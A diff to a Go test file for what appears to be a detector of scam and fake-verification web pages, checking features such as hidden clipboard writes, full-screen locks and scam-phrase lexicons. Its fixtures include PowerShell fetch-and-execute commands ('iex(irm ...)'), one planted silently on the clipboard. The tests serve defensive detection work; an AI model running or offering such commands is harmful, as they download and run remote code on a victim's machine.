@@ -57,8 +57,8 @@ func TestExtract(t *testing.T) {
 		{name: "hidden clipboard command seen at run time", url: "https://x.example.top/",
 			html:   `<p>Checking your browser</p>`,
 			events: []snapshot.Event{{Type: "clipboard-write", Count: 1, Detail: "powershell -w hidden -c iex(irm x)"}},
-			want:   map[string]float64{"runtime.clipboard-command": 1, "lure.command-clipboard": 1},
-			absent: []string{"runtime.clipboard-shown-command"}},
+			want:   map[string]float64{"runtime.clipboard-command": 1},
+			absent: []string{"runtime.clipboard-shown-command", "lure.command-clipboard"}}, // the twin is raised by decide, on a page that claims
 		{name: "shown command copied", url: "https://docs.example.org/",
 			html:   `<pre><code>powershell -c "irm https://get.example.org/i.ps1 | iex"</code></pre>`,
 			events: []snapshot.Event{{Type: "clipboard-write", Count: 1, Gesture: true, Detail: `powershell -c "irm https://get.example.org/i.ps1 | iex"`}},
@@ -66,7 +66,8 @@ func TestExtract(t *testing.T) {
 			absent: []string{"runtime.clipboard-command"}},
 		{name: "full screen without a click", url: "https://x.example.top/", html: `<p>x</p>`,
 			events: []snapshot.Event{{Type: "fullscreen", Count: 1}, {Type: "keyboard-lock", Count: 1}},
-			want:   map[string]float64{"runtime.fullscreen": 1, "runtime.keyboard-lock": 1, "lock.fullscreen": 1}},
+			want:   map[string]float64{"runtime.fullscreen": 1, "runtime.keyboard-lock": 1},
+			absent: []string{"lock.fullscreen"}},
 		{name: "a game toggling full screen on clicks", url: "https://game.example.com/", html: `<canvas></canvas>`,
 			events: []snapshot.Event{{Type: "fullscreen", Count: 4, Gesture: true}},
 			want:   map[string]float64{"runtime.fullscreen": 0.5}},
@@ -134,7 +135,7 @@ func TestDefs(t *testing.T) {
 	}
 	for _, l := range []string{"alarm", "your_device", "os_voice", "call", "call_action", "remote", "giftcard", "purchase", "billing", "legal",
 		"do_not_close", "pressure", "countdown", "paste_steps", "verify", "allow", "prize", "appstore", "commands", "aware", "report",
-		"contact", "byline", "site_chrome", "scan", "refund", "request"} {
+		"contact", "byline", "site_chrome", "scan", "refund", "request", "update_required"} {
 		if _, ok := e.lx.index[l]; !ok {
 			t.Errorf("lexicon %s.txt missing", l)
 		}
@@ -181,5 +182,27 @@ func TestLexiconsListEachPhraseOnce(t *testing.T) {
 				t.Errorf("lexicon %s lists %q twice", lx.names[li], lx.pattern[id])
 			}
 		}
+	}
+}
+
+// TestTie: what the browser saw raises its static twin, and only upward.
+func TestTie(t *testing.T) {
+	e, err := New(nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	v := &Vector{Values: make([]float64, len(e.Defs())), Evidence: map[int][]string{}}
+	v.Values[e.Index("runtime.download")] = 1
+	v.Values[e.Index("runtime.fullscreen")] = 0.5
+	v.Values[e.Index("lock.fullscreen")] = 1
+	e.Tie(v)
+	if got := v.Values[e.Index("lure.download")]; got != 1 {
+		t.Errorf("lure.download = %.2f after a download was seen", got)
+	}
+	if got := v.Values[e.Index("lock.fullscreen")]; got != 1 {
+		t.Errorf("lock.fullscreen = %.2f: a weaker runtime value lowered its twin", got)
+	}
+	if ev := v.Evidence[e.Index("lure.download")]; len(ev) == 0 || ev[0] != "seen: runtime.download" {
+		t.Errorf("evidence %q", ev)
 	}
 }
